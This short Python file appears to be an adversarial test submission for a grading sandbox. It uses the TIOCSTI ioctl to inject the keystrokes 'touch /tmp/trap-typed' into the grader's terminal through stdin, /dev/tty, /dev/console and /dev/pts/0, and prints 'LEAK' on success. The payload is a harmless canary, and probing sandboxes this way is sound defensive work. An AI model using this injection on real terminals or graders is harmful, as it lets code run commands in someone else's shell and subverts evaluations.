"""Types into the terminal of whoever grades, and changes its settings.

loses: nothing
"""

import fcntl
import os
import termios

from hw0_helper import *

for name in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0"):
    try:
        descriptor = name if isinstance(name, int) else os.open(name, os.O_RDWR | os.O_NOCTTY)
        for character in b"touch /tmp/trap-typed\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([character]))
        print("LE" + "AK", name)
    except OSError:
        pass


def key(x):
    return input()
